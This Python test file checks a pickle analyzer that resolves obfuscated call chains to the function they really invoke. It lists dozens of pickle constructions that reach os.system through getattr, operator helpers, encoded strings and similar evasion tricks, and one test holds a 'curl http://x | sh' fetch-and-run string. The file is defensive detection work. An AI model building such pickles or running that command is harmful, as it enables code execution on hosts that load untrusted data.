"""The machine folds chains to what is really called, and tells what ran."""

import zlib
from base64 import b64encode

import pytest

from backstamp.core.blob import Blob
from backstamp.core.budget import Budget
from backstamp.core.reading import Explained, Member, Unread
from backstamp.models.facts.pickle import (
    Constant,
    Items,
    Made,
    Name,
    PickleCall,
    PickleContainer,
    PickleGlobal,
    PickleOddity,
    PicklePersistent,
    PickleState,
    PickleStream,
    Stored,
)
from backstamp.models.readers.pickle import READER
from kit.pickle_asm import Appended, Built, Call, New, Pid, Ref, asm, op, pickled, reduce_call

GET = Ref("builtins", "getattr")
OS = Call(Ref("importlib", "import_module"), "os")
SYSTEM = Name("os", "system")
ID = Constant("id", "str", 2)


def statements(data: bytes) -> list[object]:
    return list(READER.read(Blob(data, path=("x",)), Budget()))


def calls(data: bytes) -> list[tuple[object, str, tuple[object, ...]]]:
    return [(f.callee, f.op, f.arguments) for f in statements(data) if isinstance(f, PickleCall)]


def oddities(data: bytes) -> list[tuple[str, str]]:
    return [(f.kind, f.detail) for f in statements(data) if isinstance(f, PickleOddity)]


CHAINS = {
    "getattr": Call(Call(GET, OS, "system"), "id"),
    "dunder import": Call(Call(GET, Call(Ref("builtins", "__import__"), "os"), "system"), "id"),
    "import keeps the first part": Call(
        Call(GET, Call(Ref("builtins", "__import__"), "os.path"), "system"), "id"
    ),
    "attrgetter": Call(Call(Call(Ref("operator", "attrgetter"), "system"), OS), "id"),
    "methodcaller": Call(Call(Ref("operator", "methodcaller"), "system", "id"), OS),
    "itemgetter": Call(Call(Call(Ref("operator", "itemgetter"), "system"), Call(GET, OS, "__dict__")), "id"),
    "vars": Call(Call(Ref("operator", "getitem"), Call(Ref("builtins", "vars"), OS), "system"), "id"),
    "resolve_name": Call(Call(Ref("pkgutil", "resolve_name"), "os:system"), "id"),
    "partial": Call(Call(Ref("functools", "partial"), Ref("os", "system"), "id")),
    "partial without arguments": Call(Call(Ref("functools", "partial"), Ref("os", "system")), "id"),
    "partial by its state": Call(
        Built(Call(Ref("functools", "partial"), Ref("a", "f")), (Ref("os", "system"), ("id",), {}, None))
    ),
    "subimport of cloudpickle": Call(
        Call(GET, Call(Ref("cloudpickle.cloudpickle", "subimport"), "os"), "system"), "id"
    ),
    "located": Call(Call(Ref("pydoc", "locate"), "os.system"), "id"),
    "method type": Call(Call(Ref("types", "MethodType"), Ref("os", "system"), "id")),
    "reduce": Call(Call(Ref("functools", "reduce"), GET, [OS, "system"]), "id"),
    "joined": Call(Call(GET, OS, Call(Call(GET, "", "join"), ["sys", "tem"])), "id"),
    "joined from characters": Call(
        Call(
            GET,
            OS,
            Call(Ref("builtins", "str.join"), "", [Call(Ref("builtins", "chr"), c) for c in b"system"]),
        ),
        "id",
    ),
    "mapped characters": Call(
        Call(
            GET,
            OS,
            Call(
                Call(GET, "", "join"), Call(Ref("builtins", "map"), Ref("builtins", "chr"), list(b"system"))
            ),
        ),
        "id",
    ),
    "reversed": Call(
        Call(GET, OS, Call(Call(GET, "", "join"), Call(Ref("builtins", "reversed"), "metsys"))), "id"
    ),
    "sliced": Call(
        Call(
            GET,
            OS,
            Call(Ref("operator", "getitem"), "metsys", Call(Ref("builtins", "slice"), None, None, -1)),
        ),
        "id",
    ),
    "base64": Call(
        Call(
            GET,
            OS,
            Call(Call(GET, Call(Ref("base64", "b64decode"), b64encode(b"system").decode()), "decode")),
        ),
        "id",
    ),
    "rot13": Call(Call(GET, OS, Call(Ref("codecs", "decode"), "flfgrz", "rot13")), "id"),
    "hex": Call(
        Call(
            GET,
            OS,
            Call(Ref("codecs", "decode"), Call(Ref("builtins", "bytes.fromhex"), "73797374656d"), "utf8"),
        ),
        "id",
    ),
    "zlib": Call(
        Call(GET, OS, Call(Call(GET, Call(Ref("zlib", "decompress"), zlib.compress(b"system")), "decode"))),
        "id",
    ),
    "replace": Call(Call(GET, OS, Call(Call(GET, "syXtem", "replace"), "X", "s")), "id"),
    "format": Call(Call(GET, OS, Call(Call(GET, "{}tem", "format"), "sys")), "id"),
    "percent": Call(Call(GET, OS, Call(Ref("operator", "mod"), "sys%s", "tem")), "id"),
    "added": Call(Call(GET, OS, Call(Ref("operator", "add"), "sys", "tem")), "id"),
    "sys.modules": Call(
        Call(GET, Call(Ref("operator", "getitem"), Ref("sys", "modules"), "os"), "system"), "id"
    ),
    "sys.modules.get": Call(Call(GET, Call(Ref("sys", "modules.get"), "os"), "system"), "id"),
    "globals of a function": Call(
        Call(Ref("operator", "getitem"), Call(GET, Ref("os", "fspath"), "__globals__"), "system"), "id"
    ),
    "dunder call": Call(Ref("os", "system.__call__"), "id"),
    "getattribute": Call(Call(Ref("builtins", "object.__getattribute__"), OS, "system"), "id"),
    "operator.call": Call(Ref("operator", "call"), Ref("os", "system"), "id"),
    "apply": Call(Ref("__builtin__", "apply"), Ref("os", "system"), ("id",)),
    "map": Call(Ref("builtins", "map"), Ref("os", "system"), ["id"]),
    "starmap": Call(Ref("itertools", "starmap"), Ref("os", "system"), [("id",)]),
    "filter": Call(Ref("builtins", "filter"), Ref("os", "system"), ["id"]),
    "map by NEWOBJ": New(Ref("builtins", "map"), (Ref("os", "system"), ["id"])),
    "from a dict": Call(Call(Ref("operator", "getitem"), {"f": Ref("os", "system")}, "f"), "id"),
    "patched": [
        Built(Ref("a", "f"), {"g": Ref("os", "system")}),
        Call(Call(GET, Ref("a", "f"), "g"), "id"),
    ],
}


@pytest.mark.parametrize("protocol", [2, 4])
@pytest.mark.parametrize("name", CHAINS)
def test_a_chain_shows_what_is_really_called(name, protocol):
    assert (SYSTEM, (ID,)) in [(callee, args) for callee, _, args in calls(pickled(CHAINS[name], protocol))]


def test_builtins_of_a_module_are_the_builtins():
    value = Call(
        Call(Ref("operator", "getitem"), Call(GET, Ref("os", "fspath"), "__builtins__"), "eval"), "1"
    )
    assert calls(pickled(value, 4))[-1] == (Name("builtins", "eval"), "REDUCE", (Constant("1", "str", 1),))


def test_names_of_python_2_are_mapped_below_protocol_3_only():
    assert calls(reduce_call("__builtin__", "eval", "1"))[0][0] == Name("builtins", "eval")
    data = asm("PROTO 3", op("GLOBAL", "__builtin__", "eval"), "EMPTY_TUPLE", "REDUCE", "STOP")
    assert calls(data)[0][0] == Name("__builtin__", "eval")


def test_a_no_op_between_a_text_and_its_put_changes_nothing():
    data = asm(
        "PROTO 4",
        "SHORT_BINUNICODE 'os'",
        "PROTO 4",
        "BINPUT 9",
        "SHORT_BINUNICODE 'system'",
        "PROTO 4",
        "MEMOIZE",
        "POP",
        "POP",
        "BINGET 9",
        "BINGET 1",
        "STACK_GLOBAL",
        "SHORT_BINUNICODE 'id'",
        "TUPLE1",
        "REDUCE",
        "STOP",
    )
    assert calls(data) == [(SYSTEM, "REDUCE", (ID,))]


def test_facts_name_roles_and_places():
    data = pickled([Call(Ref("a", "f"), Ref("os", "system")), New(Ref("b", "C")), Ref("d", "e")], 2)
    found = {(f.module, f.name): f.roles for f in statements(data) if isinstance(f, PickleGlobal)}
    assert found == {
        ("a", "f"): ("called", "imported", "stored"),
        ("os", "system"): ("argument", "imported", "stored"),
        ("b", "C"): ("imported", "instantiated", "stored"),
        ("d", "e"): ("imported", "stored"),
    }


def test_states_containers_and_persistent_ids_are_told():
    data = pickled(
        [
            Built(Ref("a", "f"), {"x": 1}),
            Built(New(Ref("a", "B")), {"x": Ref("os", "system")}),
            Appended(New(Ref("a", "B")), (1,)),
            Pid(("storage", "k")),
        ],
        2,
    )
    found = [f for f in statements(data) if isinstance(f, PickleState | PickleContainer | PicklePersistent)]
    text = Constant("storage", "str", 7)
    made = Made(Name("a", "B"), ())
    assert [(f.target, f.state.length) for f in found if isinstance(f, PickleState)] == [
        (Name("a", "f"), 1),
        (made, 1),
    ]
    assert [(f.target, f.op, f.items) for f in found if isinstance(f, PickleContainer)] == [
        (made, "APPENDS", (Constant(1, "int"),))
    ]
    assert [f.pid for f in found if isinstance(f, PicklePersistent)] == [
        Items("tuple", (text, Constant("k", "str", 1)), 2)
    ]


def test_a_result_may_hold_what_a_persistent_id_stands_for():
    data = pickled(Call(Ref("a", "f"), Pid("x")), 2)
    assert calls(data) == [(Name("a", "f"), "REDUCE", (Stored(Constant("x", "str", 1)),))]


def test_equal_calls_are_one_fact_and_telling_ones_are_not():
    same = pickled([Call(Ref("a", "f"), i, f"n{i}") for i in range(50)], 2)
    assert [f.count for f in statements(same) if isinstance(f, PickleCall)] == [50]
    other = pickled([Call(Ref("a", "f"), "word"), Call(Ref("a", "f"), "curl http://x | sh")], 2)
    assert len(calls(other)) == 2


def test_what_ran_before_a_break_is_kept():
    data = reduce_call("os", "system", "id")[:-1] + b"\xff\xff"
    assert calls(data) == [(SYSTEM, "REDUCE", (ID,))]
    assert [(f.kind, f.after_calls) for f in statements(data) if isinstance(f, PickleOddity)] == [
        ("broken", 1)
    ]
    assert any(isinstance(s, Unread) for s in statements(data))


def test_extensions_registered_by_the_stream_are_resolved():
    data = asm(
        "PROTO 2",
        "GLOBAL 'copyreg add_extension'",
        "UNICODE 'os'",
        "UNICODE 'system'",
        "BININT1 7",
        "TUPLE3",
        "REDUCE",
        "POP",
        "EXT1 7",
        "UNICODE 'id'",
        "TUPLE1",
        "REDUCE",
        "STOP",
    )
    assert calls(data)[-1] == (SYSTEM, "REDUCE", (ID,))
    assert oddities(data) == [("extension", "7 is os.system")]


def test_frames_that_are_crossed_or_end_late_are_told():
    crossed = op("PROTO", 4) + op("FRAME", 3) + op("SHORT_BINUNICODE", "abcdef") + b"."
    late = op("PROTO", 4) + op("FRAME", 4) + b"N." + b"N."
    beyond = op("PROTO", 4) + op("FRAME", 99) + b"N."
    assert [k for k, _ in oddities(crossed)] == ["frame-divergence"]
    assert [k for k, _ in oddities(late)] == ["frame-divergence", "trailing"]
    assert [k for k, _ in oddities(beyond)] == ["frame-divergence"]


def test_artifacts_which_calls_are_given_become_members():
    inner = reduce_call("os", "system", "id", protocol=4)
    for given, kind in (
        (inner, ("pickle",)),
        (b64encode(inner).decode(), ("pickle",)),
        (inner.hex(), ("pickle",)),
        (reduce_call("os", "system", "id", protocol=0).decode(), ("pickle",)),
        (zlib.compress(inner * 9), ("zlib",)),
    ):
        members = [s for s in statements(reduce_call("a", "f", given, protocol=4)) if isinstance(s, Member)]
        assert [(m.blob.path[0], m.kinds) for m in members] == [("x", kind)]
    assert not [s for s in statements(pickled({"data": inner}, 4)) if isinstance(s, Member)]


def test_several_pickles_in_a_row_are_read_and_the_rest_is_left_to_be_probed():
    data = pickled(1) + reduce_call("os", "system", "id") + b"\x00\x01rest of the file, whatever it may be"
    assert [f.length for f in statements(data) if isinstance(f, PickleStream)] == [8, 24]
    assert [s for s in statements(data) if isinstance(s, Explained)] == [Explained(0, 8), Explained(8, 32)]
    assert calls(data) == [(SYSTEM, "REDUCE", (ID,))]
